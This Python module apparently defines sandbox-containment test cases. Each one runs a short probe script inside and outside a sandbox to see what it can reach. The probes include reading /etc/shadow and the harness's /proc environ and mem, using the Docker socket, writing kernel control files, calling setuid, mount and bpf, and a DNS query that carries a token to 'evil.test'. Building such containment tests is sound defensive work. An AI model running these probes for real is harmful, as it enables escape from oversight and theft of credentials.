"""What a program inside could do to the machine around it: sockets, files, processes, the kernel.

Each script is run inside, and outside as the control. Nothing is harmed by one that works: what could be is
opened, and closed again.
"""

from collections.abc import Iterator

from harness.evals.containment.cases import Case, MachineProbe

PREAMBLE = """
import ctypes, errno, json, os, signal, socket, struct, sys
from pathlib import Path
A = json.loads(sys.argv[1])
T = A["token"].encode()
C = ctypes.CDLL(None, use_errno=True)
def syscall(number, *args):
    if C.syscall(number, *args) < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
def say(kind, to, port):
    with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, kind) as s:
        s.settimeout(2)
        s.connect((to, port))
        s.sendall(T)
def opens(path, flags=os.O_RDONLY):
    os.close(os.open(path, flags))
def ask(name):
    labels = b"".join(bytes((len(one),)) + one.encode() for one in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(bytes((18, 52, 1, 0, 0, 1)) + bytes(6) + labels + bytes((0, 0, 1, 0, 1)), ("127.0.0.1", 53))
def permitted():
    Path("/tmp", A["token"]).write_text("ok")
    os.remove(Path("/tmp", A["token"]))
"""
EPILOGUE = """
out = {}
for name, work in (("did", attempt), ("permitted", permitted)):
    try:
        work()
        out[name] = True
    except (OSError, ValueError, AttributeError) as e:
        out[name] = False
        out["why"] = errno.errorcode.get(getattr(e, "errno", 0) or 0, type(e).__name__) if name == "did" else out.get("why", "")
print(json.dumps(out))
"""

_RELAYED = "def permitted():\n    socket.create_connection(('127.0.0.1', 3128), 2).close()"
_NETWORK: tuple[tuple[str, str, str], ...] = (
    ("tcp loopback", "W15", "say(socket.SOCK_STREAM, '127.0.0.1', A['port'])"),
    ("tcp own address", "W15", "say(socket.SOCK_STREAM, A['own'], A['port'])"),
    ("udp loopback", "W15", "say(socket.SOCK_DGRAM, '127.0.0.1', A['port'])"),
    ("udp own address", "W15", "say(socket.SOCK_DGRAM, A['own'], A['port'])"),
    ("name server", "D13", "ask(A['token'] + '.evil.test')"),
    ("unix socket", "K07", "s = socket.socket(socket.AF_UNIX); s.connect(A['socket'])"),
    ("abstract socket", "K07", "s = socket.socket(socket.AF_UNIX); s.connect(chr(0) + A['abstract'])"),
    (
        "interfaces",
        "W15",
        "assert_ = [n for _, n in socket.if_nameindex() if n != 'lo'] or opens('/nonexistent')",
    ),
)
_FILES: tuple[tuple[str, str, str], ...] = (
    ("read a file", "F19", "opens(A['file'])"),
    ("write a file", "K12", "Path(A['victim']).write_text(A['token'])"),
    ("make a file beside it", "K12", "Path(A['victim'] + A['token']).write_text('x')"),
    ("shadow", "K11", "opens('/etc/shadow')"),
    ("write to usr", "K12", "p = Path('/usr', A['token']); p.write_text('x'); p.unlink()"),
    ("write to etc", "K17", "p = Path('/etc', A['token']); p.write_text('x'); p.unlink()"),
    ("shared tmp", "F20", "opens(A['temporary'])"),
    ("home of root", "K07", "os.listdir('/root')"),
    ("host name", "K07", "A['hostname'] == socket.gethostname() or opens('/nonexistent')"),
    (
        "environment",
        "K08",
        "os.environ['HARNESS_CANARY'] if 'HARNESS_CANARY' in os.environ else opens('/nonexistent')",
    ),
    ("harness environment", "K08", "opens(f\"/proc/{A['pid']}/environ\")"),
    ("harness memory", "K06", "opens(f\"/proc/{A['pid']}/mem\")"),
    ("signal the harness", "K06", "os.kill(A['pid'], 0)"),
    ("docker socket", "C10", "s = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock')"),
)
_KERNEL: tuple[tuple[str, str, str], ...] = (
    ("core pattern", "K01", "opens('/proc/sys/kernel/core_pattern', os.O_WRONLY)"),
    ("drop caches", "K02", "opens('/proc/sys/vm/drop_caches', os.O_WRONLY)"),
    ("ip forward", "K02", "opens('/proc/sys/net/ipv4/ip_forward', os.O_WRONLY)"),
    ("sysrq", "K02", "opens('/proc/sysrq-trigger', os.O_WRONLY)"),
    ("kernel log", "K11", "opens('/dev/kmsg')"),
    ("disk", "K11", "opens(next(str(p) for p in sorted(Path('/dev').iterdir()) if p.is_block_device()) if any(p.is_block_device() for p in Path('/dev').iterdir()) else '/nonexistent')"),
    ("cgroup", "K11", "opens('/sys/fs/cgroup/cgroup.procs', os.O_WRONLY)"),
    ("vsock", "K04", "socket.socket(40, socket.SOCK_STREAM).close()"),
    ("packet socket", "W18", "socket.socket(17, socket.SOCK_RAW).close()"),
    ("raw socket", "W16", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()"),
    ("io_uring", "K05", "syscall(425, 8, ctypes.create_string_buffer(120))"),
    ("bpf", "K06", "syscall({'x86_64': 321, 'aarch64': 280}[os.uname().machine], 0, struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(100), 120)"),
    ("keyring", "K06", "syscall({'x86_64': 250, 'aarch64': 219}[os.uname().machine], 0, -3, 1)"),
    ("trace oneself", "K06", "syscall({'x86_64': 101, 'aarch64': 117}[os.uname().machine], 0, 0, 0, 0)"),
    ("mount", "K11", "syscall({'x86_64': 165, 'aarch64': 40}[os.uname().machine], b'none', b'/tmp', b'tmpfs', 0, None); C.umount(b'/tmp')"),
    ("change the host name", "K11", "syscall({'x86_64': 170, 'aarch64': 161}[os.uname().machine], socket.gethostname().encode(), len(socket.gethostname()))"),
    ("become root", "K10", "os.setuid(0); opens('/etc/shadow')"),
    ("change root", "K11", "os.chroot('/')"),
)  # fmt: skip

_HEARD = frozenset(
    ("tcp loopback", "tcp own address", "udp loopback", "udp own address", "name server", "write a file")
) | {"make a file beside it"}
"""What seems to work inside, since there is a loopback and a folder of that name there too."""


def machine_cases() -> Iterator[Case]:
    """Every attempt on the machine."""
    for group, rows in (("network", _NETWORK), ("file", _FILES), ("kernel", _KERNEL)):
        for name, ref, attempt in rows:
            permitted = _RELAYED if group == "network" else ""
            yield Case(
                id=f"machine/{name.replace(' ', '-')}",
                kind="machine",
                says=f"a program inside: {name}",
                probe=MachineProbe(
                    f"{PREAMBLE}\ndef attempt():\n    {attempt}\n{permitted}\n{EPILOGUE}", name in _HEARD
                ),
                ref=ref,
                tags=frozenset({"quick"} if name in ("tcp loopback", "read a file", "vsock") else ()),
            )
